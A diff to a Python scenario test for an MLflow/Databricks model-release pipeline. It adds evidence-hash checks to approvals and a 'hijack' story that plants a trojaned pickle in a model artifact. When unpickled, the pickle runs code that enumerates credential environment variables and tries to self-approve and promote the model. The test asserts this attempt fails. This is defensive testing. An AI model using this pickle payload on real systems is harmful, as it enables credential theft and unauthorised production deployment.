@@ -5,11 +5,14 @@
 Runs in the folder of the project, with its packages. What is checked is written from the definition of the patterns.
 """
 
+import json
 import sys
 from collections.abc import Callable
 from datetime import date, timedelta
 from pathlib import Path
+from tempfile import mkdtemp
 
+import cloudpickle
 import mlflow
 from account import APPROVER, OUTSIDER, SCIENTIST, TARGETS, Account, account, identity_of
 from mlflow.exceptions import MlflowException
@@ -76,14 +79,14 @@ class Story:
     def receives(self, target: str, source: str, today: date) -> None:
         """Release the champion of `source` to `target`, as the pipeline does."""
         own, before = identity_of(target), self.aliases(target)
-        number = self.life.type(identity_of(source), "number", "--target", source).strip()
+        number, evidence = self.shown(source)
         promise(number == str(self.aliases(source)["champion"]), f"version {number} of {source} may be released")
         promote = ("promote", "--target", target, "--version", number, "--param", f"run_date={today}")
         if target == "prod" and not before:
             self.waits_for_approval(promote)
-            approvers = APPROVER
+            approvers = "Grace H."
         elif target == "prod":
-            promote += ("--approve", "--by", "the pipeline", "--reason", "reviewed there")
+            promote += ("--approve", "--by", "the pipeline", "--reason", "reviewed there", "--evidence", evidence)
             approvers = "the pipeline"
         else:
             approvers = own
@@ -100,17 +103,26 @@ class Story:
             promise(self.aliases(target) == after, "the same release once more changes nothing")
             promise(len(self.life.versions(target)) == versions, "and makes no version")
 
+    def shown(self, target: str, version: str = "champion", to: str = "") -> list[str]:
+        """Return number and evidence of a version, as its owner or `to` somebody else sees them."""
+        show = ("show", "--target", target, "--version", version, "--field")
+        return [self.life.type(to or identity_of(target), *show, field).strip() for field in ("version", "evidence")]
+
     def waits_for_approval(self, promote: tuple[str, ...]) -> None:
         """The release to prod stops, and only who may approve lets it go on."""
         refused("waits for an approval", lambda: self.life.type(identity_of("prod"), *promote))
         promise(self.tags("prod", "challenger")["validation_status"] == "PASSED", "acceptance has passed")
         promise("champion" not in self.aliases("prod"), "nothing serves without approval")
         waiting = str(self.aliases("prod")["challenger"])
-        approve = ("approve", "--target", "prod", "--version", waiting, "--by", APPROVER, "--reason")
+        _, evidence = self.shown("prod", waiting, to=APPROVER)
+        version = ("approve", "--target", "prod", "--version", waiting)
+        approve = (*version, "--evidence", evidence, "--by", "Grace H.", "--reason")
         refused("APPLY_TAG", lambda: self.life.type(SCIENTIST, *approve, "looks good to me"))
         refused("USE_CATALOG", lambda: self.life.type(OUTSIDER, *approve, "looks good to me"))
         refused("write at most 1000", lambda: self.life.type(APPROVER, *approve, "because " * 130))
+        refused("not what was shown", lambda: self.life.type(APPROVER, *version, "--evidence", "0" * 64))
         self.life.type(APPROVER, *approve, "better on the holdout")
+        promise(self.tags("prod", "challenger")["approved_as"] == APPROVER, f"signed in as {APPROVER}")
 
     def roll_back(self, target: str) -> None:
         own, previous = identity_of(target), self.aliases(target)["previous"]
@@ -161,6 +173,62 @@ class Story:
         self.life.run(target, "promotion", until="receive", **given)
         statuses = [version.ready for version in metastore.models[scratch].versions.values()]
         promise(statuses == [True], "the next run has replaced it")
+
+
+PAYLOAD = """
+import json, os
+from pathlib import Path
+import mlflow
+found = sorted(name for name in os.environ if name.startswith(("DATABRICKS", "MLFLOW")))
+Path({report!r}).write_text(json.dumps(found))
+mlflow.set_registry_uri("databricks-uc")
+os.environ.setdefault("DATABRICKS_HOST", {host!r})
+os.environ["MLFLOW_HTTP_REQUEST_MAX_RETRIES"] = "0"
+client = mlflow.MlflowClient()
+for number in map(str, {numbers}):
+    try:
+        client.set_model_version_tag({model!r}, number, "approved_evidence", {evidence!r})
+        client.set_model_version_tag({model!r}, number, "approval", "Approved")
+        client.set_registered_model_alias({model!r}, "champion", number)
+    except Exception:
+        pass
+"""
+
+
+def hijack(story: Story) -> None:
+    """A version of the source approves itself while it is loaded, with whatever credentials it finds there."""
+    prod, own = story.life.deployments["prod"], identity_of("staging")
+    before, report = story.aliases("prod"), Path(mkdtemp()) / "found.json"
+    numbers = range(1, max(story.life.versions("prod")) + 3)
+    with story.life.working_as(own, "staging"):
+        client, source = registry.connect(), story.life.deployments["staging"].model
+        champion = registry.get(client, source, "champion")
+        with registry.downloaded(source, str(champion.version)) as files:
+            targets = {"host": prod.workspace.address, "model": prod.model, "numbers": list(numbers)}
+            payload = PAYLOAD.format(report=str(report), evidence="0" * 64, **targets)
+            pickled = (files / "model.pkl").read_bytes()
+            (files / "model.pkl").write_bytes(cloudpickle.dumps(Trojan(payload, pickled)))
+            forged = champion.tags | {"files_sha256": registry.files_sha256(files)}
+            mlflow.set_experiment("/Shared/attack")
+            with mlflow.start_run() as run:
+                mlflow.log_artifacts(str(files), "model")
+        version = mlflow.register_model(f"runs:/{run.info.run_id}/model", source, tags=forged)
+    promote = ("promote", "--target", "prod", "--version", str(version.version), "--param", f"run_date={DAY_ONE}")
+    refused("waits for an approval", lambda: story.life.type(identity_of("prod"), *promote))
+    promise(report.exists() and json.loads(report.read_text()) == [], "it ran, and found no credentials")
+    after = story.aliases("prod")
+    promise({**after, "challenger": 0} == {**before, "challenger": 0}, "it moved no alias")
+    promise("approval" not in story.tags("prod", "challenger"), "and approved nothing")
+
+
+class Trojan:
+    """Unpickled, runs a text as code, and is the object that was pickled before."""
+
+    def __init__(self, code: str, pickled: bytes) -> None:
+        self.code, self.pickled = code, pickled
+
+    def __reduce__(self) -> tuple[object, ...]:
+        return eval, (f"(exec({self.code!r}, {{}}), __import__('cloudpickle').loads({self.pickled!r}))[1]",)
 
 
 def judge(story: Story) -> None:
@@ -252,7 +320,8 @@ def export(story: Story) -> None:
     number = str(story.aliases("staging")["champion"])
     command = ("promote", "--target", "prod", "--version", number, "--param", f"run_date={today}")
     refused("another metastore", lambda: life.type(own, *command))
-    released = (*command, "--source", "staging", "--export", "--approve", "--reason", "reviewed")
+    _, evidence = story.shown("staging")
+    released = (*command, "--source", "staging", "--export", "--approve", "--evidence", evidence)
     for _ in range(2):
         life.type(own, *released)
         promise(story.aliases("prod") == {"champion": 1}, "version 1 of the other metastore serves, carried over once")
@@ -260,7 +329,11 @@ def export(story: Story) -> None:
     story.use("prod", today)
 
 
-STORIES = {"deploy-code": [deploy_code], "deploy-model": [deploy_model, export], "hybrid": [hybrid, judge, export]}
+STORIES = {
+    "deploy-code": [deploy_code],
+    "deploy-model": [deploy_model, export],
+    "hybrid": [hybrid, judge, hijack, export],
+}
 
 
 def main() -> None:
